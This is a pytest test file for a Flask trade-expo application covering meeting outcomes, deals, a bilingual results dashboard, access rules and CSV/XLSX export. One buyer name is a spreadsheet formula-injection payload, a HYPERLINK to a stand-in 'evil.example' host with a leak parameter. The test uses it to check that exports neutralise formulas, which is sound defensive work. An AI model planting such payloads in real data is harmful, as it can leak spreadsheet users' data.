"""After the meetings: outcomes, deals, the results wall's figures, its pages and its export."""

import csv
import io
from dataclasses import dataclass
from datetime import date, time
from decimal import Decimal

import pytest
from babel.numbers import format_currency
from flask import current_app
from flask_babel import force_locale, gettext
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select

from app.auth.models import Role, User
from app.buyers.models import Buyer
from app.catalogue.models import Company
from app.expo import events as setup
from app.expo import participation
from app.expo.models import Deal, Event, Meeting, MeetingRequest, Outcome
from app.expo.results import services as results
from app.expo.results.queries import EXPORT_COLUMNS
from app.extensions import db as _db
from app.matching.models import MatchResult, MatchRun

KO = {"Accept-Language": "ko-KR,ko;q=0.9"}
EN = {"Accept-Language": "en-US"}
EVIL = '=HYPERLINK("http://evil.example/?leak=1","Click")'
DAY1, DAY2 = date(2025, 5, 20), date(2025, 5, 21)


@dataclass
class Results:
    event: Event
    organiser: User
    users: dict[str, User]
    companies: dict[str, Company]
    buyers: dict[str, Buyer]
    meetings: dict[str, Meeting]


def _usd(value: str, currency: str) -> Decimal:
    """The configured rate, applied as the organisers' table says: rounded to the cent."""
    rate = Decimal(str(current_app.config["EXCHANGE_RATES_TO_USD"][currency]))
    return (Decimal(value) * rate).quantize(Decimal("0.01"))


@pytest.fixture
def results_expo(db, make_user, make_company, make_buyer, make_product):
    """Two days: suppliers noodle (HS 19), tea (HS 09) and farm (no HS code); buyers kiwi (NZ),
    pacific (US) and evil (JP, a formula for a name). Eight requests, six meetings:

    M1 kiwi-noodle   day 1 09:00  held, 5   MOU 10,000 USD (pre-matched)
    M2 pacific-noodle day 1 09:30 held, 4   order 1,000,000 KRW
    M3 kiwi-tea      day 1 09:30  no-show
    M4 evil-tea      day 2 09:00  held, 2   MOU 5,000 EUR
    M5 pacific-farm  day 2 09:00  held, 3   negotiating 2,000 USD (not an MOU)
    M6 evil-noodle   day 2 09:30  no outcome yet
    plus a pending request evil-farm with an MOU of 100 CHF (no rate configured), and a
    declined request kiwi-farm.
    """
    organiser = make_user(Role.ORGANISER)
    event = setup.create_event(organiser, name_ko="결과 엑스포", name_en="Results Expo",
                               starts_on=DAY1, ends_on=DAY2,
                               timezone=current_app.config["BABEL_DEFAULT_TIMEZONE"])
    for day in (DAY1, DAY2):
        setup.add_session(event, organiser, day, time(9), time(10))
    setup.add_tables(event, organiser, 2)
    interpreter = setup.add_interpreter(event, organiser, "김통역", ["ko", "en"])
    companies = {
        "noodle": make_company(name_ko="횡성쌀면", name_en="Hoengseong Noodles",
                               supplier_ref="NOODLE"),
        "tea": make_company(name_ko="보성녹차", name_en="Boseong Tea", supplier_ref="TEA"),
        "farm": make_company(name_ko="평창농장", supplier_ref="FARM"),
    }
    make_product(companies["noodle"], name_ko="현미 쌀국수", hs_code="190230")
    make_product(companies["noodle"], name_ko="메밀국수", hs_code="190219")
    make_product(companies["tea"], name_ko="홍차", hs_code="090230")
    buyers = {
        "kiwi": make_buyer(company_name="Kiwi Pantry", country="NZ"),
        "pacific": make_buyer(company_name="Pacific Foods", country="US"),
        "evil": make_buyer(company_name=EVIL, country="JP"),
    }
    for company in companies.values():
        participation.register(event, organiser, company=company)
    for buyer in buyers.values():
        participation.register(event, organiser, buyer=buyer)
    slots = list(event.slots)
    assert len(slots) == 4
    table1, table2 = event.tables

    def request(buyer: str, company: str, status: str = "accepted") -> MeetingRequest:
        row = MeetingRequest(event_id=event.id, buyer_id=buyers[buyer].id,
                             company_id=companies[company].id, requested_by="buyer",
                             status=status)
        _db.session.add(row)
        return row

    def meet(buyer: str, company: str, slot: int, table, **fields) -> Meeting:
        meeting = Meeting(event_id=event.id, request=request(buyer, company),
                          buyer_id=buyers[buyer].id, company_id=companies[company].id,
                          slot_id=slots[slot].id, table_id=table.id, **fields)
        _db.session.add(meeting)
        return meeting

    meetings = {
        "M1": meet("kiwi", "noodle", 0, table1),
        "M2": meet("pacific", "noodle", 1, table1),
        "M3": meet("kiwi", "tea", 1, table2),
        "M4": meet("evil", "tea", 2, table1, interpreter_id=interpreter.id),
        "M5": meet("pacific", "farm", 2, table2),
        "M6": meet("evil", "noodle", 3, table1),
    }
    request("evil", "farm", status="pending")
    request("kiwi", "farm", status="declined")
    run = MatchRun(model="test", data_version="test", top_n=5, status="published")
    run.results.append(MatchResult(buyer_id=buyers["kiwi"].id,
                                   company_id=companies["noodle"].id, rank=1, score=0.9))
    _db.session.add(run)
    _db.session.flush()

    for name, held, score in (("M1", True, 5), ("M2", True, 4), ("M3", False, None),
                              ("M4", True, 2), ("M5", True, 3)):
        results.record_outcome(meetings[name], organiser, held=held, satisfaction=score)
    for buyer, company, stage, value, currency in (
            ("kiwi", "noodle", "mou", "10000", "USD"),
            ("pacific", "noodle", "order", "1000000", "KRW"),
            ("evil", "tea", "mou", "5000", "EUR"),
            ("pacific", "farm", "negotiating", "2000", "USD"),
            ("evil", "farm", "mou", "100", "CHF")):
        results.save_deal(event, organiser, buyer_id=buyers[buyer].id,
                          company_id=companies[company].id, stage=stage,
                          value=Decimal(value), currency=currency)
    users = {"noodle": make_user(Role.SUPPLIER, company=companies["noodle"]),
             "tea": make_user(Role.SUPPLIER, company=companies["tea"]),
             "pacific": make_user(Role.BUYER, buyer=buyers["pacific"])}
    _db.session.commit()
    return Results(event, organiser, users, companies, buyers, meetings)


def expected_total() -> Decimal:
    return _usd("10000", "USD") + _usd("1000000", "KRW") + _usd("5000", "EUR")


# --- figures -------------------------------------------------------------------------------

def test_dashboard_figures_come_from_the_records(results_expo):
    figures = results.dashboard(results_expo.event, results_expo.organiser)
    assert (figures.suppliers, figures.buyers) == (3, 3)
    assert (figures.requested, figures.accepted, figures.scheduled) == (8, 6, 6)
    assert (figures.held, figures.no_shows) == (4, 1)
    assert figures.no_show_rate == pytest.approx(1 / 5)
    assert figures.mous == 4  # three converted, one in CHF
    assert figures.mou_value_usd == expected_total()
    assert figures.unconverted == {"CHF"}
    assert figures.prematched_mous == 1
    assert figures.satisfaction == {5: 1, 4: 1, 2: 1, 3: 1}
    assert figures.average_satisfaction == pytest.approx(3.5)

    def flat(groups):
        return {key: (g.meetings, g.held, g.mous, g.value_usd) for key, g in groups.items()}

    assert flat(figures.by_country) == {
        "NZ": (2, 1, 1, _usd("10000", "USD")),
        "US": (2, 2, 1, _usd("1000000", "KRW")),
        "JP": (2, 1, 1, _usd("5000", "EUR")),
    }
    assert flat(figures.by_category) == {
        "19": (3, 2, 2, _usd("10000", "USD") + _usd("1000000", "KRW")),
        "09": (2, 1, 1, _usd("5000", "EUR")),
        "": (1, 1, 0, Decimal(0)),
    }
    assert flat(figures.by_day) == {
        DAY1: (3, 2, 2, _usd("10000", "USD") + _usd("1000000", "KRW")),
        DAY2: (3, 2, 1, _usd("5000", "EUR")),
    }


def test_default_rates_give_the_known_total(results_expo, monkeypatch):
    monkeypatch.setitem(current_app.config, "EXCHANGE_RATES_TO_USD",
                        {"USD": 1, "KRW": 0.00072, "EUR": 1.08})
    figures = results.dashboard(results_expo.event, results_expo.organiser)
    assert figures.mou_value_usd == Decimal("16120.00")  # 10,000 + 720 + 5,400


# --- outcome form ---------------------------------------------------------------------------

def switch_user(client, login, user: User) -> None:
    client.post("/logout")
    login(user)


def outcome_url(data: Results, meeting: str) -> str:
    return f"/events/{data.event.id}/meetings/{data.meetings[meeting].id}/outcome"


VALID = {"held": "yes", "satisfaction": "4", "notes": "Samples next week", "stage": "negotiating",
         "value": "1,250,000", "currency": "KRW"}


def test_outcome_form_saves_outcome_and_deal(client, login, results_expo):
    login(results_expo.users["noodle"])
    url = outcome_url(results_expo, "M6")
    page = client.get(url, headers=EN)
    assert page.status_code == 200
    assert "KRW · South Korean Won" in page.text
    assert "대한민국 원" in client.get(url, headers=KO).text

    response = client.post(url, data=VALID, headers=EN)
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/events/{results_expo.event.id}/deals")
    meeting = _db.session.get(Meeting, results_expo.meetings["M6"].id)
    assert (meeting.status, meeting.outcome.held, meeting.outcome.satisfaction) == \
        ("held", True, 4)
    assert meeting.outcome.notes == "Samples next week"
    deal = _db.session.scalar(select(Deal).where(Deal.buyer_id == meeting.buyer_id,
                                                 Deal.company_id == meeting.company_id))
    assert (deal.stage, deal.value, deal.currency) == ("negotiating", Decimal("1250000.00"),
                                                       "KRW")
    # The stored answers fill the form again.
    again = client.get(url, headers=EN).text
    assert 'value="1250000.00"' in again
    assert '<option selected value="KRW">' in again


def test_no_show_without_deal_records_no_deal(client, login, results_expo):
    meeting = results_expo.meetings["M6"]
    login(results_expo.organiser)
    response = client.post(outcome_url(results_expo, "M6"),
                           data={"held": "no", "stage": "", "currency": "USD"})
    assert response.status_code == 302
    assert _db.session.get(Meeting, meeting.id).status == "no_show"
    assert _db.session.scalar(select(Deal).where(Deal.buyer_id == meeting.buyer_id,
                                                 Deal.company_id == meeting.company_id)) is None


def test_a_recorded_score_can_be_cleared(client, login, results_expo):
    """M1 was recorded as held with a 5; it turns out nobody came."""
    login(results_expo.organiser)
    url = outcome_url(results_expo, "M1")
    assert 'checked id="satisfaction-4"' in client.get(url).text
    response = client.post(url, data={"held": "no", "satisfaction": "", "stage": "mou",
                                      "value": "10000", "currency": "USD"})
    assert response.status_code == 302
    outcome = _db.session.get(Meeting, results_expo.meetings["M1"].id).outcome
    assert (outcome.held, outcome.satisfaction) == (False, None)


def test_an_existing_deal_cannot_be_unset(client, login, results_expo):
    login(results_expo.organiser)
    response = client.post(outcome_url(results_expo, "M1"),
                           data={"held": "yes", "stage": "", "currency": "USD"})
    assert response.status_code == 200
    assert "Choose a deal stage from the list." in response.text
    assert '<option value="">' not in response.text.split('id="stage"')[1].split("</select>")[0]


@pytest.mark.parametrize(("change", "message"), [
    ({"satisfaction": "7"}, "Choose a satisfaction score from 1 to 5."),
    ({"value": "-5"}, "The deal value cannot be negative."),
    ({"value": "NaN"}, "\"%(value)s\" is not a number: write it in figures, e.g. 1234.56."),
    ({"value": "1,250"}, "\"%(value)s\" is ambiguous: write it with a decimal point and no "
                         "thousands separator, e.g. 1234.56."),
    ({"currency": "XYZ"}, "Choose a currency from the list."),
    ({"held": ""}, "Say whether the meeting took place."),
    ({"held": "no"}, "Leave the score empty when the meeting did not take place."),
])
@pytest.mark.parametrize("headers", [EN, KO])
def test_bad_outcome_input_is_explained_and_nothing_saved(client, login, results_expo, app,
                                                          change, message, headers):
    login(results_expo.users["noodle"])
    response = client.post(outcome_url(results_expo, "M6"), data={**VALID, **change},
                           headers=headers)
    assert response.status_code == 200
    language = "ko" if headers is KO else "en"
    with app.test_request_context(), force_locale(language):
        expected = gettext(message, **change)  # the value, where the message quotes it
    assert f'<p class="error" role="alert">{escape(expected)}</p>' in response.text
    assert f'<html lang="{language}">' in response.text
    meeting = _db.session.get(Meeting, results_expo.meetings["M6"].id)
    assert meeting.outcome is None
    assert meeting.status == "scheduled"
    assert _db.session.scalar(select(Deal).where(Deal.buyer_id == meeting.buyer_id,
                                                 Deal.company_id == meeting.company_id)) is None


def test_only_the_two_sides_and_organisers_record_an_outcome(client, login, results_expo):
    url = outcome_url(results_expo, "M2")  # pacific meets noodle
    before = _db.session.get(Meeting, results_expo.meetings["M2"].id).outcome.satisfaction
    login(results_expo.users["tea"])
    assert client.get(url).status_code == 403
    assert client.post(url, data=VALID).status_code == 403
    assert _db.session.get(Meeting, results_expo.meetings["M2"].id).outcome.satisfaction == before
    switch_user(client, login, results_expo.users["pacific"])
    assert client.get(url).status_code == 200
    switch_user(client, login, results_expo.organiser)
    assert client.get(url).status_code == 200


def test_meeting_of_another_event_is_not_found(client, login, results_expo):
    other = setup.create_event(results_expo.organiser, name_ko="다른", name_en="Other",
                               starts_on=DAY1, ends_on=DAY1)
    _db.session.commit()
    login(results_expo.organiser)
    url = f"/events/{other.id}/meetings/{results_expo.meetings['M1'].id}/outcome"
    assert client.get(url).status_code == 404


# --- deals ---------------------------------------------------------------------------------

def test_participants_see_their_own_deals_organisers_all(client, login, results_expo):
    url = f"/events/{results_expo.event.id}/deals"
    login(results_expo.users["noodle"])
    page = client.get(url, headers=EN).text
    assert "Kiwi Pantry" in page
    assert "Pacific Foods" in page
    assert "Boseong Tea" not in page
    assert outcome_url(results_expo, "M1") in page  # update link
    assert "Meetings without an outcome" in page
    assert outcome_url(results_expo, "M6") in page
    assert "₩1,000,000" in page

    switch_user(client, login, results_expo.users["tea"])
    page = client.get(url, headers=EN).text
    assert "Boseong Tea" in page
    assert "Hoengseong Noodles" not in page

    switch_user(client, login, results_expo.organiser)
    page = client.get(url, headers=EN).text
    assert page.count('href="' + f"/events/{results_expo.event.id}/meetings/") == 4 + 1
    assert "no rate for CHF" in page


# --- dashboard page --------------------------------------------------------------------------

def test_dashboard_page_in_english_and_korean(client, login, results_expo):
    login(results_expo.organiser)
    url = f"/events/{results_expo.event.id}/dashboard"
    english = client.get(url, headers=EN)
    assert english.status_code == 200
    page = english.text
    assert '<html lang="en">' in page
    assert page.count("<svg") >= 5
    assert 'role="img"' in page
    assert "<title>New Zealand — meetings: 2, held: 1</title>" in page
    assert "<title>Score 5 — meetings: 1</title>" in page
    assert 'class="bar-part"' in page
    assert "<table" in page
    assert "20%" in page
    assert format_currency(expected_total(), "USD", locale="en") in page
    assert "May 20, 2025" in page
    assert "May 21, 2025" in page
    assert "HS 19 " in page
    assert "No HS code" in page
    assert "<strong>3.5</strong>" in page
    assert "Deals in CHF are not in the USD totals" in page
    assert 'style="' not in page  # the CSP forbids inline styles
    assert "<script>" not in page  # charts are server-drawn SVG; no inline script (CSP)

    korean = client.get(url, headers=KO)
    assert korean.status_code == 200
    page = korean.text
    assert '<html lang="ko">' in page
    assert "뉴질랜드" in page
    assert "일본" in page
    assert "2025. 5. 20." in page
    assert format_currency(expected_total(), "USD", locale="ko") in page
    assert page.count("<svg") >= 5
    assert 'style="' not in page


def test_results_are_for_organisers_only(client, login, results_expo):
    login(results_expo.users["noodle"])
    base = f"/events/{results_expo.event.id}/dashboard"
    for url in (base, base + ".csv", base + ".xlsx"):
        assert client.get(url).status_code == 403, url


# --- export ----------------------------------------------------------------------------------

def test_meetings_export_is_complete_and_formula_safe(client, login, results_expo):
    login(results_expo.organiser)
    base = f"/events/{results_expo.event.id}/dashboard"
    response = client.get(base + ".csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == ["slot_start", "buyer", "buyer_country", "supplier_ref", "supplier_name",
                       "table_or_booth", "interpreter", "status", "held", "satisfaction",
                       "deal_stage", "deal_value", "currency", "value_usd"] == EXPORT_COLUMNS
    assert len(rows) == 1 + 6
    by_pair = {(row[1], row[3]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    m2 = by_pair[("Pacific Foods", "NOODLE")]
    assert m2["slot_start"].startswith("2025-05-20T09:30")
    assert (m2["table_or_booth"], m2["status"], m2["held"], m2["satisfaction"]) == \
        ("T01", "held", "yes", "4")
    assert (m2["deal_stage"], Decimal(m2["deal_value"]), m2["currency"]) == \
        ("order", Decimal("1000000"), "KRW")
    assert Decimal(m2["value_usd"]) == _usd("1000000", "KRW")
    m3 = by_pair[("Kiwi Pantry", "TEA")]
    assert (m3["status"], m3["held"], m3["deal_stage"], m3["value_usd"]) == \
        ("no_show", "no", "", "")
    m4 = by_pair[("'" + EVIL, "TEA")]  # the formula is exported as text
    assert (m4["buyer_country"], m4["interpreter"]) == ("JP", "김통역")
    m6 = by_pair[("'" + EVIL, "NOODLE")]
    assert (m6["status"], m6["held"], m6["satisfaction"]) == ("scheduled", "", "")

    response = client.get(base + ".xlsx")
    assert response.status_code == 200
    assert "spreadsheetml" in response.mimetype
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    table = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert table[0] == EXPORT_COLUMNS
    evil_cells = [row[1] for row in table[1:] if row[1] and EVIL in row[1]]
    assert evil_cells == ["'" + EVIL] * 2
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_record_outcome_twice_keeps_one_outcome(results_expo):
    meeting = results_expo.meetings["M1"]
    results.record_outcome(meeting, results_expo.organiser, held=False, satisfaction=None)
    _db.session.commit()
    assert _db.session.scalar(select(Outcome).where(Outcome.meeting_id == meeting.id)).held \
        is False
    assert meeting.status == "no_show"
